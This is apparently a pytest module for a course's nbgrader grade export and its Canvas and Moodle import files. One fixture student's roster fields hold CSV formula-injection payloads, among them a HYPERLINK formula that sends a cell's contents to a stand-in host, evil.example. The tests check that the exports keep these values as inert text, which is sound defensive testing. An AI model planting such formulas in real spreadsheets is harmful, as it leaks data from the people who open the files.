"""grades.csv a person can use, the LMS gradebook import files, and the small things users hit at once.

The gradebook is a real nbgrader SQLite gradebook of a copy of the course, filled the way
``generate_assignment`` + ``autograde`` + Formgrader fill it: the graded cells of
``source/a1_ppo_objective/01_clipped_objective.ipynb`` (four autograder tests, 15 points, and the
hand-graded essay ``ex3_explanation``, 3 points), and the ungraded ``a2b_ppo_debugging`` and
``a2c_ppo_explorer`` (notebooks, no graded cell). Students:

* ``ada_pending``: every test passed, the essay still waits for a grader;
* ``ben_scored``: one test failed, the essay scored 2 of 3 in Formgrader;
* ``mallory``: a roster whose names and e-mail are spreadsheet formulas, the release unchanged;
* ``cy_absent``: in the roster, nothing submitted, no e-mail;
* ``dee_nolms``: submitted and fully graded, but no ``lms_user_id`` in the roster.
"""
from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys

import nbformat
import pytest
from nbgrader.api import Gradebook
from nbgrader.utils import compute_checksum

from course_support import REPO
from rlhf_lab.instructor.classrun import pipeline
from rlhf_lab.instructor.operations import backup, csv_export, lms_export

A = "a1_ppo_objective"
NB = "01_clipped_objective"
UNGRADED = ("a2b_ppo_debugging", "a2c_ppo_explorer")
ESSAY = "ex3_explanation"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
ROSTER = {  # id: (first_name, last_name, email, lms_user_id)
    "ada_pending": ("Ada", "Okafor", "ada@example.edu", "40101"),
    "ben_scored": ("Ben", "Moreau", "ben@example.edu", "40102"),
    "mallory": (HYPERLINK, "@SUM(A1:A9)", "=1+1@example.edu", "40103"),
    "cy_absent": ("Cy", "Tanaka", None, "40104"),
    "dee_nolms": ("Dee", "Kowalski", "dee@example.edu", None),
}


def _read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _dicts(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """(root, db_url, {grade_id: points}) of the gradebook described in the module docstring."""
    root = pipeline.copy_course(tmp_path_factory.mktemp("grades") / "course", REPO,
                                include=("nbgrader_config.py", "source"))
    url = "sqlite:///" + str(root / "gradebook.db")
    src = nbformat.read(str(root / "source" / A / f"{NB}.ipynb"), as_version=4)
    graded = [c for c in src.cells if c.metadata.get("nbgrader", {}).get("grade")]
    points = {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"]) for c in graded}
    assert ESSAY in points and len(points) == 5, points
    with Gradebook(url, pipeline.COURSE_ID) as gb:  # what generate_assignment records
        gb.update_or_create_assignment(A)
        gb.add_notebook(NB, A)
        for cell in graded:
            md = cell.metadata["nbgrader"]
            gb.add_grade_cell(md["grade_id"], NB, A, max_score=md["points"], cell_type=cell.cell_type)
            if md.get("solution"):
                gb.add_solution_cell(md["grade_id"], NB, A)
            gb.add_source_cell(md["grade_id"], NB, A, cell_type=cell.cell_type, locked=bool(md.get("locked")),
                               source=cell.source, checksum=compute_checksum(cell))
        for name in UNGRADED:
            gb.update_or_create_assignment(name)
            for path in sorted((root / "source" / name).glob("*.ipynb")):
                gb.add_notebook(path.stem, name)
        for sid, (first, last, email, lms) in ROSTER.items():  # what `nbgrader db student import` records
            gb.update_or_create_student(sid, first_name=first, last_name=last, email=email, lms_user_id=lms)
        # what autograde records (tests scored, a changed essay waits) and then Formgrader
        tests = {"ada_pending": dict.fromkeys(points, "full"), "ben_scored": {"test_clip_boundary": 0.0},
                 "mallory": dict.fromkeys(points, 0.0), "dee_nolms": dict.fromkeys(points, "full")}
        for sid, scores in tests.items():
            gb.add_submission(A, sid)
            for gid, pts in points.items():
                g = gb.find_grade(gid, NB, A, sid)
                if gid == ESSAY and sid != "mallory":  # changed from the release: a person must grade it
                    g.auto_score, g.needs_manual_grade = None, True
                else:
                    given = scores.get(gid, "full")
                    g.auto_score, g.needs_manual_grade = (pts if given == "full" else given), False
        gb.db.commit()
        for sid, score in (("ben_scored", 2.0), ("dee_nolms", 3.0)):  # Formgrader: a grader scores the essay
            g = gb.find_grade(ESSAY, NB, A, sid)
            g.manual_score, g.needs_manual_grade = score, False
        gb.db.commit()
    return root, url, points


@pytest.fixture(scope="module")
def grades(course, tmp_path_factory):
    """``{student: row}`` of grades.csv as the course's export plugin writes it, and all rows."""
    root, url, _ = course
    dest = tmp_path_factory.mktemp("export") / "grades.csv"
    with Gradebook(url, pipeline.COURSE_ID) as gb:
        csv_export.CsvExport(to=str(dest)).export(gb)
    rows = _dicts(dest)
    return {r["student_id"]: r for r in rows if r["assignment"] == A}, rows


# ------------------------------------------------------------------------------------------ grades.csv
def test_grades_csv_says_how_many_points_still_wait_for_a_grader(grades, course):
    by_student, _ = grades
    points = course[2]
    tests_total = sum(v for k, v in points.items() if k != ESSAY)  # 15
    ada, ben = by_student["ada_pending"], by_student["ben_scored"]
    # ada: every test passed, the essay not graded yet -> her 15 of 18 is incomplete by 3 points
    assert float(ada["pending_manual_points"]) == points[ESSAY] == 3.0
    assert (float(ada["score"]), float(ada["auto_score"]), float(ada["manual_score"])) == (tests_total, tests_total, 0.0)
    # ben: the essay scored 2 by a grader -> nothing pending; the split names who gave what
    assert float(ben["pending_manual_points"]) == 0.0
    assert float(ben["manual_score"]) == 2.0
    assert float(ben["auto_score"]) == tests_total - points["test_clip_boundary"]
    assert float(ben["auto_score"]) + float(ben["manual_score"]) == float(ben["raw_score"]) == float(ben["score"])
    # an essay left as released scores 0 automatically (nbgrader's rule): nothing waits
    assert float(by_student["mallory"]["pending_manual_points"]) == 0.0
    # nothing submitted: zeros, nothing pending
    cy = by_student["cy_absent"]
    assert (cy["timestamp"], float(cy["score"]), float(cy["pending_manual_points"])) == ("", 0.0, 0.0)
    assert all(float(r["max_score"]) == sum(points.values()) for r in by_student.values())


def test_grades_csv_carries_the_rosters_lms_user_id_and_keeps_formulas_text(grades):
    by_student, rows = grades
    assert list(rows[0])[:len(csv_export.NBGRADER_COLUMNS)] == list(csv_export.NBGRADER_COLUMNS)  # nbgrader's order
    assert list(rows[0]) == list(csv_export.COLUMNS)
    assert {sid: r["lms_user_id"] for sid, r in by_student.items()} == \
        {sid: v[3] or "" for sid, v in ROSTER.items()}
    mallory = by_student["mallory"]
    assert (mallory["first_name"], mallory["last_name"], mallory["email"]) == \
        ("'" + HYPERLINK, "'@SUM(A1:A9)", "'=1+1@example.edu")
    assert mallory["score"] == "0.0"  # a number stays a number


def test_assignments_without_graded_cells_have_no_rows(grades, course):
    _, rows = grades
    with Gradebook(course[1], pipeline.COURSE_ID) as gb:  # they are in the gradebook, with no points
        assert {a.name: a.max_score for a in gb.assignments if a.name in UNGRADED} == dict.fromkeys(UNGRADED, 0.0)
    assert {r["assignment"] for r in rows} == {A}
    assert len(rows) == len(ROSTER)


def test_the_backup_checks_the_new_columns_against_the_cells(course, tmp_path):
    """backup.py's grades.csv is this export; verify_backup traces score and pending points to the cells."""
    root, url, _ = course
    folder = backup.backup(root, url, tmp_path / "bk")
    assert backup.verify_backup(folder, root) == []
    summary = {r["student_id"]: r for r in _dicts(folder / "grades.csv")}
    assert float(summary["ada_pending"]["pending_manual_points"]) == 3.0
    assert not {r["assignment"] for r in _dicts(folder / "grades.csv")} & set(UNGRADED)
    broken = tmp_path / "broken"
    shutil.copytree(folder, broken)
    rows = _read(broken / "grades.csv")
    col = rows[0].index("pending_manual_points")
    for row in rows[1:]:
        if row[rows[0].index("student_id")] == "ada_pending":
            row[col] = "0.0"  # someone "completes" ada's score in the file
    with open(broken / "grades.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    problems = backup.verify_backup(broken, root)
    assert any("ada_pending" in p and "wait for a grader" in p for p in problems), problems


# ------------------------------------------------------------------------------------------ LMS files
def test_canvas_file_has_canvas_gradebook_headers_points_possible_and_ids(course, tmp_path):
    root, url, points = course
    dest, table = lms_export.export_lms("canvas", tmp_path / "canvas.csv", root, url)
    rows = _read(dest)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", A]
    assert rows[1][0].strip() == "Points Possible" and rows[1][1:5] == ["", "", "", ""]
    assert float(rows[1][5]) == sum(points.values())
    assert all(len(r) == len(rows[0]) for r in rows)
    by_id = {r[1]: r for r in rows[2:]}
    assert sorted(by_id) == ["40101", "40102", "40103", "40104"]  # ID = the roster's lms_user_id
    assert by_id["40102"][0] == "Moreau, Ben" and float(by_id["40102"][5]) == 11.0 + 2.0
    assert by_id["40101"][5] == ""  # ada's essay is not graded yet: no score sent, Canvas changes nothing
    assert float(by_id["40104"][5]) == 0.0  # nothing submitted: 0, as in grades.csv
    assert by_id["40103"][0] == "'@SUM(A1:A9), " + HYPERLINK  # a formula-like name stays text
    assert table.left_out and "dee_nolms" in table.left_out[0] and "lms_user_id" in table.left_out[0]
    assert table.incomplete == [f"ada_pending/{A}: 3 point(s) wait for a grader (left blank)"]


def test_moodle_file_identifies_students_by_email(course, tmp_path):
    root, url, _ = course
    dest, table = lms_export.export_lms("moodle", tmp_path / "moodle.csv", root, url)
    rows = _read(dest)
    assert rows[0] == ["First name", "Last name", "Email address", A]
    by_email = {r[2]: r for r in rows[1:]}
    assert sorted(by_email) == ["'=1+1@example.edu", "ada@example.edu", "ben@example.edu", "dee@example.edu"]
    assert float(by_email["dee@example.edu"][3]) == 18.0  # no lms_user_id is no problem for Moodle
    assert by_email["ada@example.edu"][3] == ""
    assert by_email["'=1+1@example.edu"][0] == "'" + HYPERLINK
    assert [m.split(":")[0] for m in table.left_out] == ["cy_absent"]


def test_the_command_names_who_is_left_out_on_stderr_and_writes_the_others(course, tmp_path, capsys):
    root, url, _ = course
    out = tmp_path / "c.csv"
    code = lms_export.main(["--format", "canvas", "--out", str(out), "--db", url, "--root", str(root),
                            "--include-incomplete", "--column", f"{A}=PPO objective (81234)"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    assert "dee_nolms" in captured.err and "left out" in captured.err
    assert "ada_pending" in captured.err and "partial score 15 written" in captured.err
    rows = _read(out)
    assert rows[0][5] == "PPO objective (81234)"  # Canvas's "<title> (<assignment id>)" updates that assignment
    assert float({r[1]: r for r in rows[2:]}["40101"][5]) == 15.0
    assert lms_export.main(["--format", "canvas", "--out", str(out), "--db", url, "--column", "nope=X"]) == 2
    assert "nope" in capsys.readouterr().err
    missing = "sqlite:///" + str(tmp_path / "none.db")
    assert lms_export.main(["--format", "moodle", "--out", str(out), "--db", missing]) == 2
    assert "does not exist" in capsys.readouterr().err and not (tmp_path / "none.db").exists()


@pytest.mark.slow
def test_nbgrader_export_and_the_lms_command_run_as_instructors_run_them(course, tmp_path):
    """`nbgrader export` with the course's config (its plugin) and `python -m ...lms_export` as processes."""
    root, url, _ = course
    out = pipeline.export_csv(tmp_path / "grades.csv", root, url)
    rows = _dicts(out)
    assert {r["assignment"] for r in rows} == {A} and list(rows[0]) == list(csv_export.COLUMNS)
    assert float({r["student_id"]: r for r in rows}["ada_pending"]["pending_manual_points"]) == 3.0
    env = dict(os.environ, PATH=str(pipeline.venv_bin()) + os.pathsep + os.environ.get("PATH", ""))
    run = subprocess.run([sys.executable, "-m", "rlhf_lab.instructor.operations.lms_export", "--format", "moodle",
                          "--out", str(tmp_path / "m.csv"), "--db", url, "--root", str(root)],
                         capture_output=True, text=True, timeout=300, env=env)
    assert run.returncode == 0, run.stderr[-3000:]
    assert "cy_absent" in run.stderr and _read(tmp_path / "m.csv")[0][:3] == list(lms_export.MOODLE_STUDENT_COLUMNS)


# ------------------------------------------------------------------------------------- small things
def _ignored(*paths):
    run = subprocess.run(["git", "check-ignore", "--no-index", *paths], cwd=REPO, capture_output=True, text=True)
    return set(run.stdout.split())


def test_a_real_roster_and_jupyterlabs_own_files_stay_out_of_git():
    wanted = ["roster.csv", "jupyter/instructor/lab/workspaces/default-37a8.jupyterlab-workspace",
              "jupyter/student/lab/user-settings/@jupyterlab/apputils-extension/notification.jupyterlab-settings",
              "jupyter/instructor/migrated", "jupyter/student/migrated", "grades_canvas.csv"]
    kept = ["examples/roster.csv", "jupyter/student/app-settings/overrides.json",
            "jupyter/instructor/app-settings/overrides.json", "jupyter/student/labconfig/page_config.json"]
    assert _ignored(*wanted, *kept) == set(wanted)


def test_make_lab_and_student_lab_pass_LAB_ARGS_to_jupyter():
    env = {k: v for k, v in os.environ.items() if k not in ("LAB_ARGS", "MAKEFLAGS")}
    for target in ("lab", "student-lab"):
        run = subprocess.run(["make", "-n", target, "LAB_ARGS=--allow-root"], cwd=REPO, capture_output=True,
                             text=True, timeout=60, env=env)
        assert run.returncode == 0, run.stderr
        # make lab runs jupyter lab itself; make student-lab runs the student_lab launcher, which passes
        # what follows its "--" to jupyter lab (tests/test_student_lab.py checks that part)
        launcher = "jupyter lab" if target == "lab" else "operations.student_lab"
        lab = [line for line in run.stdout.splitlines() if launcher in line]
        assert lab and lab[-1].rstrip().endswith("--allow-root"), run.stdout
    if hasattr(os, "geteuid") and os.geteuid() == 0:  # as root, without the flag: stop and say how
        run = subprocess.run(["make", "-o", "venv", "lab"], cwd=REPO, capture_output=True, text=True, timeout=60,
                             env=env)
        assert run.returncode != 0 and "make lab LAB_ARGS=--allow-root" in run.stderr, run.stderr


@pytest.mark.parametrize("role", ["instructor", "student"])
def test_jupyterlab_news_prompt_is_off_by_the_course_config(role):
    """The config dir's server config points JupyterLab's app settings at overrides with fetchNews "false"."""
    from jupyterlab_server.settings_utils import _get_overrides
    from traitlets.config.loader import PyFileConfigLoader

    folder = REPO / "jupyter" / role
    config = PyFileConfigLoader("jupyter_server_config.py", str(folder)).load_config()
    settings_dir = config.LabApp.app_settings_dir
    assert isinstance(settings_dir, str) and os.path.isdir(settings_dir), config
    overrides, error = _get_overrides(settings_dir)
    assert not error
    assert overrides["@jupyterlab/apputils-extension:notification"]["fetchNews"] == "false"


@pytest.mark.slow
@pytest.mark.parametrize("role", ["instructor", "student"])
def test_a_running_jupyterlab_has_fetch_news_off(role, tmp_path):
    """A real `jupyter lab` with a copy of the course's config dir: the setting's default is "false"
    (so the "official Jupyter news?" prompt never shows), and whatever it writes into the config dir
    is ignored by git."""
    from browser_support import jupyter_lab

    config_dir = tmp_path / "jupyter" / role
    shutil.copytree(REPO / "jupyter" / role, config_dir, ignore=shutil.ignore_patterns("lab", "migrated"))
    before = {p for p in config_dir.rglob("*") if p.is_file()}
    (tmp_path / "work").mkdir()
    with jupyter_lab(tmp_path / "work", tmp_path / "state", config_dir=config_dir) as server:
        schema = server.api("/lab/api/settings/@jupyterlab/apputils-extension:notification")["schema"]
        server.api("/lab/api/workspaces/default", method="GET")
    assert schema["properties"]["fetchNews"]["default"] == "false"
    written = [f"jupyter/{role}/{p.relative_to(config_dir).as_posix()}" for p in config_dir.rglob("*")
               if p.is_file() and p not in before and "__pycache__" not in p.parts]
    assert _ignored(*written) == set(written) if written else True, written
